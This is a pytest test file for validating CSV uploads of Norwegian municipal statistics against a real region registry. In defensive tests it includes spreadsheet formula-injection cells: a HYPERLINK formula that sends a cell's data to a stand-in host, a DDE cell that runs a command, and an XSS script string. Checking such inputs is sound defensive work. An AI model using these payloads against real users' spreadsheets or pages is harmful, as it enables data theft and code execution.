"""Validating uploads against the real region registry and the catalogue's breakdowns.

Files are synthetic (typed here); the registry is the real one from ../shared/data, so the region
messages are checked against real history (0219 Bærum became 3201 in 2024; 5012 Snillfjord was
split between Heim, Hitra and Orkland in 2020)."""

from __future__ import annotations

import math

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.regions.conftest import registry

from oppvekst.errors import InvalidMapping, UploadRefused
from oppvekst.pipeline.tidy import TIDY_COLUMNS
from oppvekst.regions.registry import Registry
from oppvekst.workspace.mapping import ColumnMapping, guess_mapping
from oppvekst.workspace.reading import RawTable, read_upload
from oppvekst.workspace.validation import MAX_PROBLEMS, Checked, problems_by_cell, validate

HEADER = "kommunenummer;år;teller;nevner"

__all__ = ["registry"]  # the session's offline registry (tests/regions), as a fixture here


def _check(text: str, registry: Registry, mapping: ColumnMapping | None = None) -> Checked:
    raw = read_upload(text.encode(), "egne.csv")
    return validate(raw, mapping or guess_mapping(raw), registry)


def _messages(checked: Checked) -> list[str]:
    return [p.text for p in checked.problems]


def test_a_good_file_becomes_tidy_rows(registry: Registry) -> None:
    checked = _check(
        "kommunenummer;år;kjønn;teller;nevner\n"
        "3201;2024;Jenter;12;100\n"
        "3201;2024;gutter;1 200;1 500\n"
        "301;2023;Alle;..;40\n",
        registry,
    )
    assert checked.ok and checked.problems == () and checked.source_rows == 3
    rows = checked.rows
    assert tuple(rows.columns) == TIDY_COLUMNS
    assert rows["region"].tolist() == ["3201", "3201", "0301"]
    assert rows["period"].tolist() == ["2024", "2024", "2023"]
    assert rows["sex"].tolist() == ["female", "male", "total"]
    assert (rows[["age", "background", "grade"]] == "total").all().all()
    assert rows["numerator"].tolist()[:2] == [12.0, 1200.0]
    assert math.isnan(rows["numerator"].iloc[2])
    assert rows["denominator"].tolist() == [100.0, 1500.0, 40.0]
    # The share is left to the pipeline (derive.complete_values), as for national data.
    assert rows["value"].isna().all()
    assert rows["status"].iloc[2] == ".."
    assert pd.isna(rows["status"].iloc[0])
    for role in ("value", "numerator", "denominator", "sd", "n", "margin95"):
        assert rows[role].dtype == np.float64


def test_values_with_decimal_comma_and_space_thousands(registry: Registry) -> None:
    checked = _check(
        "kommune;år;verdi\n3201;2024;12,5\n0301;2024;1 234,5\n4601;2024;1\u00a0000\n"
        "5001;2024;-3,25\n1804;2024;7.5\n1106;2024;45 %\n",
        registry,
    )
    assert checked.ok, _messages(checked)
    assert checked.rows["value"].tolist() == [12.5, 1234.5, 1000.0, -3.25, 7.5, 45.0]


def test_the_issues_example_message(registry: Registry) -> None:
    rows = "".join(f"3201;{year};1;2\n" for year in range(2011, 2023))  # rows 2-13
    checked = _check(f"{HEADER}\n{rows}0219;2024;1;2\n", registry)
    assert _messages(checked) == ["rad 14: ukjent kommunenummer 0219 – mente du 3201 Bærum?"]
    assert checked.problems[0].column == "kommunenummer"
    assert len(checked.rows) == 12  # the bad row is left out, the others kept


def test_region_messages(registry: Registry) -> None:
    checked = _check(
        f"{HEADER}\n5012;2024;1;2\nOslo;2024;1;2\nBærum;2024;1;2\nbarum;2023;1;2\n"
        "9999;2024;1;2\nAtlantis;2024;1;2\n;2024;1;2\n",
        registry,
    )
    assert _messages(checked) == [
        "rad 2: ukjent kommunenummer 5012 – mente du 5055 Heim eller 5056 Hitra eller 5059 Orkland?",
        "rad 3: «Oslo» kan være flere områder – mente du 0301 Oslo eller 03 Oslo? Skriv nummeret",
        "rad 6: ukjent kommunenummer 9999 – bruk et gjeldende nummer, for eksempel 3201 for Bærum",
        "rad 7: ukjent område «Atlantis» – skriv kommunenummeret (for eksempel 3201)",
        "rad 8: tomt område – skriv kommunenummeret (for eksempel 3201) eller navnet",
    ]
    assert checked.rows["region"].tolist() == ["3201", "3201"]  # names in any spelling


def test_code_and_name_in_one_cell(registry: Registry) -> None:
    checked = _check(
        "region;år;verdi\n0301 Oslo;2024;1\n3201 Bærum;2024;2\n0219 Bærum;2023;3\n", registry
    )
    assert checked.rows["region"].tolist() == ["0301", "3201"]
    assert _messages(checked) == ["rad 4: ukjent kommunenummer 0219 – mente du 3201 Bærum?"]


def test_bydeler_and_fylker(registry: Registry) -> None:
    checked = _check("bydel;år;verdi\n030101;2024;1\n30101;2023;2\n03;2024;3\n", registry)
    assert checked.ok
    assert checked.rows["region"].tolist() == ["030101", "030101", "03"]


@pytest.mark.parametrize(
    ("period", "clean"),
    [("2024", "2024"), ("2023-24", "2023-24"), ("2023/24", "2023-24"), ("2023–24", "2023-24"),
     ("2023-2024", "2023-24"), ("2016-2018", "2016-2018")],
)  # fmt: skip
def test_period_formats(registry: Registry, period: str, clean: str) -> None:
    checked = _check(f"kommune;periode;verdi\n3201;{period};1\n", registry)
    assert checked.ok, _messages(checked)
    assert checked.rows["period"].tolist() == [clean]


@pytest.mark.parametrize(
    ("period", "words"),
    [("24", "kan ikke leses"), ("2024-01-01", "kan ikke leses"), ("2023-25", "skoleår skrives"),
     ("1850", "utenfor årene"), ("2999", "utenfor årene"), ("", "tom periode")],
)  # fmt: skip
def test_bad_periods(registry: Registry, period: str, words: str) -> None:
    checked = _check(f"kommune;periode;verdi\n3201;{period};1\n", registry)
    assert len(checked.problems) == 1
    assert words in checked.problems[0].message
    assert checked.problems[0].column == "periode"


def test_years_and_school_years_are_not_mixed(registry: Registry) -> None:
    checked = _check("kommune;periode;verdi\n3201;2022;1\n3201;2023;1\n3201;2023-24;1\n", registry)
    assert [p.row for p in checked.problems] == [4]
    assert checked.problems[0].message.startswith(
        "perioden er et skoleår, men de fleste radene har et kalenderår"
    )
    assert checked.rows["period"].tolist() == ["2022", "2023"]
    spans = _check(
        "kommune;periode;verdi\n3201;2016-2018;1\n3201;2019-2021;1\n3201;2022;1\n", registry
    )
    assert [p.text for p in spans.problems] == [
        "rad 4: perioden er et kalenderår, men de fleste radene har en flerårsperiode – bruk samme "
        "slags periode i hele filen"
    ]


def test_counts(registry: Registry) -> None:
    checked = _check(
        f"{HEADER}\n3201;2024;-1;10\n3201;2023;2,5;10\n3201;2022;11;10\n3201;2021;0;0\n", registry
    )
    assert _messages(checked) == [
        "rad 2: teller kan ikke være negativ (-1)",
        "rad 3: teller må være et helt tall (2,5)",
        "rad 4: teller (11) er større enn nevner (10)",
    ]
    assert checked.rows["period"].tolist() == ["2021"]  # 0 of 0 is allowed; the share is «.»


def test_duplicates_name_the_first_row(registry: Registry) -> None:
    checked = _check(f"{HEADER}\n3201;2024;1;2\n0301;2024;1;2\n3201;2024;1;3\n", registry)
    assert _messages(checked) == ["rad 4: samme område, periode og grupper som rad 2"]


def test_the_same_area_in_two_groups_is_no_duplicate(registry: Registry) -> None:
    checked = _check("kommune;år;kjønn;verdi\n3201;2024;Jenter;1\n3201;2024;Gutter;2\n", registry)
    assert checked.ok


@pytest.mark.parametrize(
    ("cell", "words"),
    [("", "tom teller – skriv tallet, eller .."), (":", "skriv det virkelige tallet"),
     ("-", "skriv det virkelige tallet"), ("mange", "er ikke et tall"),
     ("1,234.5", "er ikke et tall"), ("1e5", "er ikke et tall"), ("inf", "er ikke et tall"),
     ('=HYPERLINK("http://x.example/?d="&A1;"Klikk")', "ser ut som en formel"),
     ("+1+cmd|' /C calc'!A0", "ser ut som en formel"), ("-2+3", "ser ut som en formel"),
     ("@SUM(1,2)", "ser ut som en formel")],
)  # fmt: skip
def test_bad_figures(registry: Registry, cell: str, words: str) -> None:
    quoted = '"' + cell.replace('"', '""') + '"'
    checked = _check(f"{HEADER}\n3201;2024;{quoted};10\n", registry)
    assert len(checked.problems) == 1, _messages(checked)
    assert words in checked.problems[0].message
    assert checked.problems[0].column == "teller"
    assert checked.rows.empty
    assert tuple(checked.rows.columns) == TIDY_COLUMNS


def test_symbols_for_missing_values(registry: Registry) -> None:
    checked = _check("kommune;år;verdi\n3201;2024;..\n0301;2024;.\n", registry)
    assert checked.ok
    assert checked.rows["status"].tolist() == ["..", "."]
    assert checked.rows["value"].isna().all()


@pytest.mark.parametrize(
    ("cell", "code"),
    [("Jenter", "female"), ("jente", "female"), ("K", "female"), ("GUTTER", "male"),
     ("Gutt", "male"), ("Alle", "total"), ("total", "total"), ("begge kjønn", "total")],
)  # fmt: skip
def test_sex_categories_by_code_label_and_synonym(registry: Registry, cell: str, code: str) -> None:
    checked = _check(f"kommune;år;kjønn;verdi\n3201;2024;{cell};1\n", registry)
    assert checked.rows["sex"].tolist() == [code]


@pytest.mark.parametrize(
    ("cell", "code"), [("0-5", "0-5"), ("0–5 år", "0-5"), ("3 år", "3"), ("13-15", "13-15")]
)
def test_age_categories(registry: Registry, cell: str, code: str) -> None:
    checked = _check(f"kommune;år;alder;verdi\n3201;2024;{cell};1\n", registry)
    assert checked.rows["age"].tolist() == [code]


def test_unknown_category_lists_the_words_to_use(registry: Registry) -> None:
    checked = _check("kommune;år;kjønn;verdi\n3201;2024;ukjent;1\n3201;2023;;1\n", registry)
    assert _messages(checked) == [
        "rad 2: ukjent kjønn «ukjent» – bruk Alle, Gutter, Jenter",
        "rad 3: ukjent kjønn (tom) – bruk Alle, Gutter, Jenter",
    ]


def test_blank_rows_are_skipped_and_numbers_kept(registry: Registry) -> None:
    checked = _check(f"{HEADER}\n3201;2024;1;2\n\n;;;\n0219;2024;1;2\n", registry)
    assert [p.row for p in checked.problems] == [5]
    assert checked.source_rows == 2


def test_several_problems_in_one_row_are_each_named(registry: Registry) -> None:
    checked = _check(f"{HEADER}\n9999;20x;a;b\n", registry)
    by_cell = problems_by_cell(checked.problems)
    assert set(by_cell) == {(2, "kommunenummer"), (2, "år"), (2, "teller"), (2, "nevner")}


def test_problems_are_capped_but_counted(registry: Registry) -> None:
    # One bad row per kommune and year: distinct keys, so no person-level repeats.
    kommuner = [r.code for r in registry.kommuner()]
    keys = [(code, year) for year in range(2001, 2011) for code in kommuner][: MAX_PROBLEMS + 500]
    body = "".join(f"{code};{year};x;10\n" for code, year in keys)
    checked = _check(f"{HEADER}\n{body}", registry)
    assert len(checked.problems) == MAX_PROBLEMS
    assert checked.problem_count == MAX_PROBLEMS + 500
    assert not checked.ok
    assert checked.rows.empty


def test_mapping_must_be_complete_and_match_the_file(registry: Registry) -> None:
    raw = read_upload(f"{HEADER}\n3201;2024;1;2\n".encode(), "t.csv")
    with pytest.raises(InvalidMapping):
        validate(raw, ColumnMapping("kommunenummer", "", value="teller"), registry)
    with pytest.raises(InvalidMapping) as caught:
        validate(raw, ColumnMapping("kommunenummer", "år", value="verdi"), registry)
    assert "«verdi»" in caught.value.message


def test_person_level_files_are_refused_before_validation(registry: Registry) -> None:
    rows = "".join("3201;2024;1;1\n" for _ in range(12))
    with pytest.raises(UploadRefused):
        _check(f"{HEADER}\n{rows}", registry)


@pytest.mark.parametrize("payload", ['=HYPERLINK("http://x.example")', "+1+1", "@SUM(1)", "-1+1"])
def test_formula_text_in_any_column_never_reaches_the_rows(
    registry: Registry, payload: str
) -> None:
    cell = '"' + payload.replace('"', '""') + '"'
    text = (
        "kommune;år;kjønn;teller;nevner\n"
        f"{cell};2024;Alle;1;2\n3201;{cell};Alle;1;2\n3201;2023;{cell};1;2\n"
        f"3201;2022;Alle;{cell};2\n3201;2021;Alle;1;{cell}\n3201;2020;Alle;1;2\n"
    )
    checked = _check(text, registry)
    assert [p.row for p in checked.problems] == [2, 3, 4, 5, 6]
    assert checked.rows["period"].tolist() == ["2020"]
    stored = [str(value) for value in checked.rows.to_numpy().ravel().tolist()]
    assert not any(value.startswith(("=", "+", "@")) for value in stored)


def test_script_text_is_only_quoted_in_a_message(registry: Registry) -> None:
    checked = _check("kommune;år;verdi\n<script>alert(1)</script>;2024;1\n", registry)
    assert checked.rows.empty
    assert "<script>alert(1)</script>" in checked.problems[0].message  # the page escapes it


CELLS = st.one_of(
    st.sampled_from(["3201", "0301", "0219", "Oslo", "barum", "2024", "2023-24", "2023/2024",
                     "Jenter", "K", "..", ".", ":", "-", "", "12,5", "1 234", "-3", "=1+1", "x"]),
    st.text(alphabet="0123456789,.- %=+@abcæ", max_size=8),
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(rows=st.lists(st.lists(CELLS, min_size=5, max_size=5), min_size=1, max_size=15))
def test_any_rows_give_problems_or_tidy_rows(registry: Registry, rows: list[list[str]]) -> None:
    raw = RawTable(
        ("kommune", "år", "kjønn", "teller", "nevner"),
        tuple(tuple(row) for row in rows),
        "utf-8",
        None,
        "t.csv",
    )
    mapping = guess_mapping(raw)
    try:
        checked = validate(raw, mapping, registry)
    except UploadRefused:  # ten identical keys: rows of individuals
        return
    assert tuple(checked.rows.columns) == TIDY_COLUMNS
    assert checked.problem_count == len(checked.problems) <= MAX_PROBLEMS
    bad_rows = {p.row for p in checked.problems}
    filled = [i for i, row in enumerate(rows) if any(row)]
    assert len(checked.rows) == len([i for i in filled if raw.row_number(i) not in bad_rows])
    counts = checked.rows[["numerator", "denominator"]].dropna()
    assert (counts["numerator"] <= counts["denominator"]).all()
    assert (counts >= 0).all().all()
